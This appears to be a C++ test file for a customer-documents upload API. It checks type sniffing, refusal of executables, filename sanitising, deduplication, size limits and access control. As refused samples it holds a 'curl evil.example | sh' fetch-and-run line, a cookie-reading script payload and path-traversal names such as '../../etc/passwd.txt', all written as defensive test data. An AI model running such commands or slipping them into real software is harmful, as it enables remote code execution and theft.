// Documents (issue #13): a customer's files, uploaded as a form. The type is what the bytes are,
// never what the name says; programs are refused whatever they are called; the name keeps no
// folders; the same content is stored once; and only those who may see the customer upload or
// download (404 for the others, as if the customer were absent).

#include "api_test_support.hpp"
#include "real_server.hpp"
#include "record_examples.hpp"

#include <filesystem>
#include <fstream>
#include <iterator>

namespace guanxi::testing {
namespace {

using nlohmann::json;
namespace fs = std::filesystem;

const std::string kPng(
    "\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\x06\0\0\0\x1f\x15\xc4\x89", 33);
const std::string kPdf = "%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<<>>\n%%EOF\n";

// A PDF no other test (or the same test on the other backend, running at once) stores.
std::string UniquePdf() { return kPdf + "% " + http::NewRequestId() + "\n"; }

// The first KiB of this test program: an ELF executable.
std::string Elf() {
    std::ifstream in("/proc/self/exe", std::ios::binary);
    std::string bytes(1024, '\0');
    in.read(bytes.data(), static_cast<std::streamsize>(bytes.size()));
    return bytes;
}

class DocumentsTest : public ApiTest {
  protected:
    void SetUp() override {
        ApiTest::SetUp();
        customer_ = CreateCustomer(admin(), {{"name", "文档测试公司"}})["id"];
        base_ = "/api/v1/customers/" + std::to_string(customer_) + "/documents";
    }
    Reply Upload(const std::string& name, const std::string& bytes, const std::string& token,
                 const std::string& base = "", const std::string& claimed = "application/pdf") {
        return Send(
            FormRequest(base.empty() ? base_ : base, {{"file", bytes, name, claimed}}, token));
    }
    json List(const std::string& query = "") {
        Reply r = Call("GET", base_ + query, nullptr, admin());
        EXPECT_EQ(r.status, 200) << r.raw.body;
        return r.body;
    }
    // The stored files (not the download links' folder).
    std::vector<fs::path> StoredFiles(const std::string& sha256) {
        std::vector<fs::path> out;
        const fs::path folder = fs::path(app().documents().dir()) / sha256.substr(0, 2);
        if (!fs::exists(folder)) return out;
        for (const auto& entry : fs::directory_iterator(folder)) {
            if (entry.path().filename().string().rfind(sha256, 0) == 0) out.push_back(entry.path());
        }
        return out;
    }
    static std::string Sha256(const std::string& bytes) {
        return customers::DocumentFiles::Sha256(bytes);
    }

    std::int64_t customer_ = 0;
    std::string base_;
};

TEST_P(DocumentsTest, AnUploadIsListedAndDownloadedWithItsSniffedTypeAndChineseName) {
    const std::string kPdf = UniquePdf();
    Reply pdf = Send(FormRequest(
        base_,
        {{"file", kPdf, "2027 年报价单.pdf", "application/octet-stream"}, {"note", "第一版"}},
        admin()));
    ASSERT_EQ(pdf.status, 201) << pdf.raw.body;
    EXPECT_EQ(pdf.body["file_name"], "2027 年报价单.pdf");
    EXPECT_EQ(pdf.body["content_type"], "application/pdf");
    EXPECT_EQ(pdf.body["size"], kPdf.size());
    EXPECT_EQ(pdf.body["sha256"], Sha256(kPdf));
    EXPECT_EQ(pdf.body["note"], "第一版");
    EXPECT_EQ(pdf.body["customer_id"], customer_);
    EXPECT_FALSE(pdf.body["created_by"].is_null());
    // A picture called .pdf (and claimed to be one) is a picture.
    Reply png = Upload("扫描件.pdf", kPng, admin());
    ASSERT_EQ(png.status, 201) << png.raw.body;
    EXPECT_EQ(png.body["content_type"], "image/png");

    const json list = List();
    EXPECT_EQ(list["total"], 2);
    EXPECT_EQ(List("?content_type=image/png")["total"], 1);
    EXPECT_EQ(List("?q=报价")["total"], 1);

    const std::string content = base_ + "/" + pdf.body["id"].dump() + "/content";
    Reply download = Call("GET", content, nullptr, admin());
    ASSERT_EQ(download.status, 200) << download.raw.body;
    EXPECT_EQ(download.raw.body, kPdf);
    EXPECT_EQ(download.raw.HeaderValue("Content-Type"), "application/pdf");
    EXPECT_EQ(download.raw.HeaderValue("X-Content-Type-Options"), "nosniff");
    EXPECT_EQ(download.raw.HeaderValue("Content-Disposition"),
              "attachment; filename=\"2027 ____.pdf\"; "
              "filename*=UTF-8''2027%20%E5%B9%B4%E6%8A%A5%E4%BB%B7%E5%8D%95.pdf");
    // Shown in the browser when asked: a PDF or an image, under a policy that runs nothing.
    Reply preview = Call("GET", content + "?inline=1", nullptr, admin());
    ASSERT_EQ(preview.status, 200);
    EXPECT_EQ(preview.raw.body, kPdf);
    EXPECT_EQ(preview.raw.HeaderValue("Content-Disposition")->rfind("inline;", 0), 0u);
    EXPECT_NE(preview.raw.HeaderValue("Content-Security-Policy")->find("default-src 'none'"),
              std::string::npos);
    EXPECT_EQ(Call("GET", content + "?inline=maybe", nullptr, admin()).status, 400);
    // Any other type is only ever an attachment.
    Reply text = Upload("说明.txt", "只是文字\n", admin());
    ASSERT_EQ(text.status, 201) << text.raw.body;
    EXPECT_EQ(text.body["content_type"], "text/plain");
    Reply text_preview =
        Call("GET", base_ + "/" + text.body["id"].dump() + "/content?inline=1", nullptr, admin());
    EXPECT_EQ(text_preview.raw.HeaderValue("Content-Disposition")->rfind("attachment;", 0), 0u);
    EXPECT_FALSE(text_preview.raw.HeaderValue("Content-Security-Policy").has_value());
    // Downloading leaves the stored file in place (the server removes only its own link).
    EXPECT_EQ(StoredFiles(Sha256(kPdf)).size(), 1u);
    EXPECT_EQ(Call("GET", content, nullptr, admin()).raw.body, kPdf);
}

TEST_P(DocumentsTest, AProgramIsRefusedWhateverItIsCalledAndNothingIsStored) {
    const std::vector<std::pair<std::string, std::string>> programs = {
        {"ELF", Elf()},
        {"PE", std::string("MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0", 16) + std::string(100, 'x')},
        {"script", "#!/bin/sh\ncurl evil.example | sh\n"},
        {"Mach-O", std::string("\xcf\xfa\xed\xfe\x07\0\0\x01", 8) + std::string(100, '\0')},
        {"HTML", "<html><body><script>alert(document.cookie)</script></body></html>"},
    };
    for (const auto& [what, bytes] : programs) {
        SCOPED_TRACE(what);
        Reply r = Upload("invoice.pdf", bytes, admin());
        EXPECT_EQ(r.status, 415) << r.raw.body;
        EXPECT_EQ(r.code(), "unsupported_media_type");
        EXPECT_EQ(r.body["error"]["details"]["field"], "file");
        EXPECT_NE(r.body["error"]["details"]["content_type"], "application/pdf");
        EXPECT_TRUE(StoredFiles(Sha256(bytes)).empty());
    }
    EXPECT_EQ(List()["total"], 0);
    EXPECT_EQ(List("?deleted=true")["total"], 0);
}

TEST_P(DocumentsTest, AFileNameKeepsNoFoldersAndNoControlCharacters) {
    const std::string passwd = "root:x:0:0 " + http::NewRequestId() + "\n";
    Reply escaped = Upload("../../etc/passwd.txt", passwd, admin());
    ASSERT_EQ(escaped.status, 201) << escaped.raw.body;
    EXPECT_EQ(escaped.body["file_name"], "passwd.txt");
    const auto stored = StoredFiles(Sha256(passwd));  // under its hash, never its name
    ASSERT_EQ(stored.size(), 1u);
    EXPECT_EQ(stored.front().filename(), Sha256(passwd));
    Reply windows = Upload("..\\..\\Windows\\合同\x01\x1b.txt", "合同正文\n", admin());
    ASSERT_EQ(windows.status, 201) << windows.raw.body;
    EXPECT_EQ(windows.body["file_name"], "合同.txt");
    for (const char* nothing : {"..", "../", "\x01\x02", "   "}) {
        Reply r = Upload(nothing, "内容\n", admin());
        EXPECT_EQ(r.status, 422) << nothing << " → " << r.raw.body;
        EXPECT_TRUE(r.body["error"]["details"]["fields"].contains("file")) << r.raw.body;
    }
    EXPECT_EQ(List()["total"], 2);
    // A rename is a name too.
    const std::string item = base_ + "/" + escaped.body["id"].dump();
    for (const char* bad : {"../passwd.txt", "a/b.txt", "a\\b.txt", "..", "x\u202eexe.txt"}) {
        Reply r = Call("PATCH", item, {{"file_name", bad}}, admin());
        EXPECT_EQ(r.status, 422) << bad << " → " << r.raw.body;
        EXPECT_TRUE(r.body["error"]["details"]["fields"].contains("file_name"));
    }
    Reply renamed = Call("PATCH", item, {{"file_name", "用户列表.txt"}, {"note", "改名"}}, admin());
    ASSERT_EQ(renamed.status, 200) << renamed.raw.body;
    EXPECT_EQ(renamed.body["file_name"], "用户列表.txt");
    EXPECT_EQ(renamed.body["sha256"], escaped.body["sha256"]);
}

TEST_P(DocumentsTest, WhatTheServerFoundOutIsNeverTheClients) {
    // The kit's JSON create is not served for documents: only a form, whose type is sniffed.
    const json forged = {{"file_name", "a.pdf"},
                         {"content_type", "application/pdf"},
                         {"size", 1},
                         {"sha256", std::string(64, 'a')}};
    Reply json_create = Call("POST", base_, forged, admin());
    EXPECT_EQ(json_create.status, 415) << json_create.raw.body;
    Reply uploaded = Upload("a.txt", "文字\n", admin());
    ASSERT_EQ(uploaded.status, 201);
    const std::string item = base_ + "/" + uploaded.body["id"].dump();
    for (const char* field : {"content_type", "size", "sha256"}) {
        Reply r = Call("PATCH", item, {{field, forged[field]}}, admin());
        EXPECT_EQ(r.status, 422) << field << " → " << r.raw.body;
        EXPECT_TRUE(r.body["error"]["details"]["fields"].contains(field));
    }
    // A form with other parts, or without a file, is refused naming the part.
    Reply extra = Send(FormRequest(
        base_, {{"file", "x\n", "a.txt", ""}, {"sha256", std::string(64, 'a'), {}, ""}}, admin()));
    EXPECT_EQ(extra.status, 422) << extra.raw.body;
    EXPECT_TRUE(extra.body["error"]["details"]["fields"].contains("sha256"));
    Reply no_file = Send(FormRequest(base_, {{"note", "只有备注", {}, ""}}, admin()));
    EXPECT_EQ(no_file.status, 422);
    EXPECT_TRUE(no_file.body["error"]["details"]["fields"].contains("file"));
    Reply empty = Upload("empty.txt", "", admin());
    EXPECT_EQ(empty.status, 422);
    http::Request malformed = FormRequest(base_, {{"file", "x", "a.txt", ""}}, admin());
    malformed.body.resize(malformed.body.size() - 9);  // the closing delimiter cut
    EXPECT_EQ(Send(malformed).status, 400);
    EXPECT_EQ(List()["total"], 1);
    EXPECT_EQ(Call("GET", item, nullptr, admin()).body["version"], 1);
}

TEST_P(DocumentsTest, AFileLargerThanTheLimitIs413AndNotStored) {
    std::string big(25u << 20, 'a');
    big += "\n";  // 25 MiB and one byte of text
    Reply r = Upload("big.txt", big, admin());
    EXPECT_EQ(r.status, 413) << r.raw.body.substr(0, 300);
    EXPECT_EQ(r.code(), "payload_too_large");
    EXPECT_EQ(r.body["error"]["details"]["field"], "file");
    EXPECT_TRUE(StoredFiles(Sha256(big)).empty());
    EXPECT_EQ(List()["total"], 0);
}

TEST_P(DocumentsTest, TheSameContentIsStoredOnce) {
    const std::string kPdf = UniquePdf();
    Reply first = Upload("第一份.pdf", kPdf, admin());
    Reply second = Upload("第二份.pdf", kPdf, admin());
    ASSERT_EQ(first.status, 201);
    ASSERT_EQ(second.status, 201);
    EXPECT_NE(first.body["id"], second.body["id"]);
    EXPECT_EQ(first.body["sha256"], second.body["sha256"]);
    const auto stored = StoredFiles(Sha256(kPdf));
    ASSERT_EQ(stored.size(), 1u);  // one file, no temporary left behind
    EXPECT_EQ(fs::file_size(stored.front()), kPdf.size());
    // Deleting one record leaves the other's content readable.
    ASSERT_EQ(Call("DELETE", base_ + "/" + first.body["id"].dump(), nullptr, admin()).status, 204);
    EXPECT_EQ(
        Call("GET", base_ + "/" + second.body["id"].dump() + "/content", nullptr, admin()).raw.body,
        kPdf);
}

TEST_P(DocumentsTest, ACustomerTheCallerCantSeeIs404ForUploadAndDownload) {
    const std::int64_t dept = CreateDepartment("文档销售部");
    TestUser owner = CreateUser("doc.owner", RoleId("sales"), dept);
    TestUser other = CreateUser("doc.other", RoleId("sales"), dept);
    const json theirs = CreateCustomer(owner.token, {{"name", "别人的客户"}});
    const std::string base = "/api/v1/customers/" + theirs["id"].dump() + "/documents";
    Reply uploaded = Upload("合同.pdf", kPdf, owner.token, base);
    ASSERT_EQ(uploaded.status, 201) << uploaded.raw.body;
    const std::string content = base + "/" + uploaded.body["id"].dump() + "/content";
    EXPECT_EQ(Call("GET", content, nullptr, owner.token).raw.body, kPdf);

    const std::string secret = "另一个销售员的秘密文件\n";
    Reply refused = Upload("x.txt", secret, other.token, base);
    EXPECT_EQ(refused.status, 404) << refused.raw.body;
    EXPECT_TRUE(StoredFiles(Sha256(secret)).empty());  // not even the bytes
    Reply download = Call("GET", content, nullptr, other.token);
    EXPECT_EQ(download.status, 404);
    EXPECT_EQ(download.raw.body.find("%PDF"), std::string::npos);
    EXPECT_EQ(Call("GET", content + "?inline=1", nullptr, other.token).status, 404);
    EXPECT_EQ(Call("GET", base, nullptr, other.token).status, 404);
    // Nor through a customer of their own: a record is found only under its customer.
    const json own = CreateCustomer(other.token, {{"name", "自己的客户"}});
    EXPECT_EQ(Call("GET",
                   "/api/v1/customers/" + own["id"].dump() + "/documents/" +
                       uploaded.body["id"].dump() + "/content",
                   nullptr, other.token)
                  .status,
              404);
    // Without documents.view, nobody downloads.
    const std::int64_t blind_role = CreateRole("文档盲", "all", {"customers.view"});
    TestUser blind = CreateUser("doc.blind", blind_role, dept);
    EXPECT_EQ(Call("GET", content, nullptr, blind.token).status, 403);
    EXPECT_EQ(Upload("x.txt", "x\n", blind.token, base).status, 403);
}

GUANXI_API_TEST_SUITE(DocumentsTest);

// Over real sockets: an upload past the limit is refused from its headers, before a byte of the
// body; a download streams the stored file and leaves it in place.
class DocumentsServerTest : public HttpServerTest {
  protected:
    std::vector<std::string> ExtraFlags() const override { return {"--max-document-mb", "1"}; }
};

TEST_F(DocumentsServerTest, ATwoGigabyteUploadIsRefusedBeforeItsBodyAndDownloadsStream) {
    Connection conn(port_);
    const std::string auth = AdminAuthorization(conn);
    const std::string customer = R"({"name":"套接字文档公司"})";
    conn.Send("POST /api/v1/customers HTTP/1.1\r\nHost: x\r\n" + auth +
              "Content-Type: application/json\r\nContent-Length: " +
              std::to_string(customer.size()) + "\r\n\r\n" + customer);
    RawReply created = conn.Read();
    ASSERT_EQ(created.status, 201) << created.body;
    const std::string path =
        "/api/v1/customers/" + nlohmann::json::parse(created.body)["id"].dump() + "/documents";
    const std::string form_type =
        std::string("Content-Type: multipart/form-data; boundary=") + kTestBoundary + "\r\n";
    {
        Connection greedy(port_);
        greedy.Send("POST " + path + " HTTP/1.1\r\nHost: x\r\n" + auth + form_type +
                    "Content-Length: 2147483648\r\n\r\n");
        RawReply reply = greedy.Read();
        EXPECT_EQ(reply.status, 413) << reply.headers;
        EXPECT_NE(reply.body.find("payload_too_large"), std::string::npos) << reply.body;
    }
    const std::string body = MultipartBody({{"file", kPdf, "报价单.pdf", "application/pdf"}});
    conn.Send("POST " + path + " HTTP/1.1\r\nHost: x\r\n" + auth + form_type +
              "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body);
    RawReply uploaded = conn.Read();
    ASSERT_EQ(uploaded.status, 201) << uploaded.body;
    const std::string content =
        path + "/" + nlohmann::json::parse(uploaded.body)["id"].dump() + "/content";
    for (int i = 0; i < 2; ++i) {
        conn.Send("GET " + content + " HTTP/1.1\r\nHost: x\r\n" + auth + "\r\n");
        RawReply download = conn.Read();
        ASSERT_EQ(download.status, 200) << download.headers;
        EXPECT_EQ(download.body, kPdf);
        EXPECT_NE(download.headers.find("filename*=UTF-8''%E6%8A%A5%E4%BB%B7%E5%8D%95.pdf"),
                  std::string::npos)
            << download.headers;
    }
    EXPECT_TRUE(fs::is_empty(dir_ / "data" / "documents" / "tmp"));
}

}  // namespace
}  // namespace guanxi::testing
